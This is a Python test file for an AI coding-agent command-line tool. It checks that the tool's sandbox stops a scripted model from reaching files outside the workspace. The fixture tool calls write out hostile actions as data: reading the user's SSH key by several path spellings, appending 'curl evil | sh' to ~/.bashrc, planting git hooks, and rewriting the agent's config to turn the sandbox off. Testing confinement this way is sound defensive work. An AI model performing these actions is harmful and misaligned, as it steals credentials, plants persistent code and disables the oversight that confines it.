"""One boundary around the whole agent, tested from outside: the installed `agentcli run
--yes` (and `--deny`, and no terminal at all) is driven by a scripted model that tries
every tool on the same places beyond the workspace — the user's SSH key, their shell
start-up file, agentcli's own configuration, the repository's hooks — by every spelling
(`~`, absolute, `..`, a symlink to the file, a symlink to the directory above it). What
is asserted is what a user would check: the file system afterwards, and that the secret
never reached the model."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from agentcli.sandbox.mechanisms import detect
from tests.conftest import RunCli, tool_results, use_backend
from tests.scripted_server import Reply, ScriptedServer

FOUND = detect()
SECRET = "boundary-secret-" + "k" * 12
BASHRC = "# the user's own start-up file\n"
BACKENDS = [
    pytest.param(
        "landlock", marks=pytest.mark.skipif(not FOUND.landlock_abi, reason="no Landlock")
    ),
    pytest.param("bubblewrap", marks=pytest.mark.skipif(not FOUND.bwrap, reason="no bubblewrap")),
]


@pytest.fixture
def places(workspace: Path, cli_home: Path) -> dict[str, Path]:
    """The user's home with a key and a start-up file; a git workspace with symlinks out."""
    key = cli_home / ".ssh" / "id_ed25519"
    key.parent.mkdir()
    key.write_text(SECRET + "\n")
    (cli_home / ".bashrc").write_text(BASHRC)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "key-link").symlink_to(key)
    (workspace / "home-link").symlink_to(cli_home)
    return {"key": key, "home": cli_home, "bashrc": cli_home / ".bashrc"}


def spellings(places: dict[str, Path], workspace: Path) -> list[str]:
    """The same key, named every way a model might name it."""
    key = places["key"]
    relative = Path("..") / key.relative_to(workspace.parent)
    return ["~/.ssh/id_ed25519", str(key), str(relative), "key-link", "home-link/.ssh/id_ed25519"]


def every_tool_on(places: dict[str, Path], workspace: Path, config: Path) -> list[dict[str, Any]]:
    calls: list[dict[str, Any]] = []
    for path in spellings(places, workspace):
        parent = str(Path(path).parent)
        directory = path if parent == "." else parent  # `key-link`: the link itself
        calls += [
            {"name": "read_file", "arguments": {"path": path}},
            {"name": "list_directory", "arguments": {"path": directory, "include_hidden": True}},
            {
                "name": "search_content",
                "arguments": {"pattern": "boundary-secret", "path": directory},
            },
            {"name": "search_files", "arguments": {"pattern": "*", "path": directory}},
            {"name": "edit_file", "arguments": {"path": path, "old_text": "k", "new_text": "x"}},
        ]
    calls += [
        {"name": "write_file", "arguments": {"path": "~/.bashrc", "content": "curl evil | sh\n"}},
        {"name": "write_file", "arguments": {"path": "home-link/.bashrc", "content": "evil\n"}},
        {
            "name": "edit_file",
            "arguments": {"path": str(places["bashrc"]), "old_text": "own", "new_text": "evil"},
        },
        {"name": "create_directory", "arguments": {"path": "~/planted"}},
        {
            "name": "write_file",
            "arguments": {"path": str(config), "content": '[sandbox]\nmode = "off"\n'},
        },
        {
            "name": "write_file",
            "arguments": {"path": ".agentcli/config.toml", "content": "[policy]\nyes = true\n"},
        },
        {
            "name": "write_file",
            "arguments": {
                "path": ".git/hooks/pre-commit",
                "content": "#!/bin/sh\ntouch /tmp/pwned\n",
            },
        },
        {"name": "write_file", "arguments": {"path": ".git/config", "content": "[core]\n"}},
        {"name": "run_shell", "arguments": {"command": f"cat {places['key']}"}},
        {"name": "run_shell", "arguments": {"command": "echo evil >> ~/.bashrc"}},
        {
            "name": "run_shell",
            "arguments": {"command": "printf '#!/bin/sh\\n' > .git/hooks/post-checkout"},
        },
        {
            "name": "run_python",
            "arguments": {"code": f"print(open({str(places['key'])!r}).read())"},
        },
    ]
    return [{"id": f"c{i}", **call} for i, call in enumerate(calls)]


def everything_sent(server: ScriptedServer) -> str:
    return "\n".join(json.dumps(request.json) for request in server.requests)


def assert_nothing_left_the_boundary(
    places: dict[str, Path], workspace: Path, config: Path, config_text: str
) -> None:
    assert places["bashrc"].read_text() == BASHRC
    assert places["key"].read_text() == SECRET + "\n"
    assert not (places["home"] / "planted").exists()
    assert config.read_text() == config_text
    assert not (workspace / ".agentcli").exists()
    hooks = workspace / ".git" / "hooks"
    assert not (hooks / "pre-commit").exists() and not (hooks / "post-checkout").exists()
    assert "[core]" in (workspace / ".git" / "config").read_text()
    assert (workspace / ".git" / "config").read_text() != "[core]\n"


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("flags", [["--yes"], ["--deny"], []], ids=["yes", "deny", "no-tty"])
def test_no_tool_reaches_beyond_the_boundary(
    backend: str,
    flags: list[str],
    run_cli: RunCli,
    server: ScriptedServer,
    workspace: Path,
    cli_home: Path,
    places: dict[str, Path],
) -> None:
    config = use_backend(cli_home, backend)
    config_text = config.read_text()
    calls = every_tool_on(places, workspace, config)
    server.enqueue(Reply.tool_calls(calls), Reply.text(["done"]))
    result = run_cli(["run", *flags, "try everything"], server=server, timeout=60)
    assert result.returncode == 4, result.stderr  # denials: the documented exit code
    assert SECRET not in everything_sent(server)
    assert SECRET not in result.stdout + result.stderr
    assert_nothing_left_the_boundary(places, workspace, config, config_text)
    results = tool_results(server)
    assert set(results) == {call["id"] for call in calls}  # every call was answered
    for call in calls:
        if call["name"] in ("read_file", "list_directory", "search_content", "search_files"):
            assert "--add-dir" in results[call["id"]], (call, results[call["id"]])


@pytest.mark.parametrize("backend", BACKENDS)
def test_add_dir_lets_every_tool_reach_the_place_a_person_named(
    backend: str,
    run_cli: RunCli,
    server: ScriptedServer,
    workspace: Path,
    cli_home: Path,
    tmp_path: Path,
) -> None:
    use_backend(cli_home, backend)
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "data.txt").write_text("shared line\n")
    calls = [
        {"id": "r", "name": "read_file", "arguments": {"path": str(shared / "data.txt")}},
        {
            "id": "w",
            "name": "write_file",
            "arguments": {"path": str(shared / "out.txt"), "content": "written\n"},
        },
        {
            "id": "s",
            "name": "run_shell",
            "arguments": {"command": f"cat {shared}/data.txt > {shared}/copy.txt"},
        },
    ]
    server.enqueue(Reply.tool_calls(calls), Reply.text(["done"]))
    result = run_cli(["run", "--yes", "--add-dir", str(shared), "use it"], server=server)
    assert result.returncode == 0, result.stderr
    assert "shared line" in tool_results(server)["r"]
    assert (shared / "out.txt").read_text() == "written\n"
    assert (shared / "copy.txt").read_text() == "shared line\n"

    server.enqueue(Reply.tool_calls(calls), Reply.text(["done"]))
    (shared / "out.txt").unlink()
    (shared / "copy.txt").unlink()
    result = run_cli(["run", "--yes", "--add-dir", f"{shared}:ro", "use it"], server=server)
    assert result.returncode == 4, result.stderr  # the write is refused, the read is not
    assert "shared line" in tool_results(server)["r"]
    assert not (shared / "out.txt").exists() and not (shared / "copy.txt").exists()


def test_add_dir_names_an_existing_directory_without_agentcli_in_it(
    run_cli: RunCli, cli_home: Path, tmp_path: Path
) -> None:
    result = run_cli(["run", "--add-dir", str(tmp_path / "missing"), "hi"])
    assert result.returncode == 2
    assert "--add-dir" in result.stderr and "is not a directory" in result.stderr
    result = run_cli(["run", "--add-dir", str(cli_home), "hi"])  # holds AGENTCLI_HOME
    assert result.returncode == 2
    assert "agentcli's own configuration" in result.stderr
    inside = cli_home / "agentcli" / "data" / "sessions"
    inside.mkdir(parents=True)
    result = run_cli(["run", "--add-dir", str(inside), "hi"])
    assert result.returncode == 2
    assert "is inside agentcli's own configuration or data" in result.stderr


def test_yes_runs_no_command_where_no_sandbox_can(
    run_cli: RunCli, server: ScriptedServer, workspace: Path, cli_home: Path
) -> None:
    """`--yes` promises the sandbox; where none can run (here: a backend this host lacks),
    it approves no command rather than run it unconfined."""
    use_backend(cli_home, "seatbelt")  # macOS's: not on this host
    call = {"id": "s", "name": "run_shell", "arguments": {"command": "touch made-by-yes"}}
    server.enqueue(Reply.tool_calls([call]), Reply.text(["done"]))
    result = run_cli(["run", "--yes", "go"], server=server)
    assert result.returncode == 4, result.stderr
    assert not (workspace / "made-by-yes").exists()
    assert "none can run here" in tool_results(server)["s"]
    server.enqueue(Reply.tool_calls([call]), Reply.text(["done"]))
    run_cli(["run", "--yes", "--sandbox", "none", "go"], server=server)
    assert (workspace / "made-by-yes").exists()  # leaving the sandbox is said out loud


def test_doctor_shows_what_every_tool_reaches(
    run_cli: RunCli, tmp_path: Path, cli_home: Path
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    config = cli_home / "agentcli" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('[mcp.servers.files]\ncommand = "srv"\nsandbox = "network"\n')
    shown = run_cli(["doctor", "--add-dir", f"{shared}:ro"])
    assert shown.returncode == 0, shown.stderr
    assert f"added {shared} (read-only)" in shown.stdout
    assert "files            sandbox: network" in shown.stdout
    data = json.loads(run_cli(["doctor", "--json"]).stdout)
    assert data["mcp_servers"] == [{"name": "files", "transport": "stdio", "sandbox": "network"}]


def test_yes_reads_a_system_file_commands_may_read_too(
    run_cli: RunCli, server: ScriptedServer
) -> None:
    """Inside the boundary but outside the workspace: what a sandboxed `cat` could read,
    `read_file` reads under --yes (high risk: asked at a terminal)."""
    calls = [
        {"id": "h", "name": "read_file", "arguments": {"path": "/etc/hostname"}},
        {"id": "p", "name": "read_file", "arguments": {"path": "/etc/passwd"}},
    ]
    server.enqueue(Reply.tool_calls(calls), Reply.text(["done"]))
    result = run_cli(["run", "--yes", "read"], server=server)
    assert result.returncode == 0, result.stderr
    assert "root:" in tool_results(server)["p"]


def test_no_setting_opens_agentclis_own_files_to_commands(run_cli: RunCli, cli_home: Path) -> None:
    config = use_backend(cli_home, "auto")
    config.write_text(config.read_text() + f'write = ["{cli_home}"]\n')
    result = run_cli(["run", "hi"])
    assert result.returncode == 2
    assert "sandbox.write" in result.stderr and "agentcli's own configuration" in result.stderr
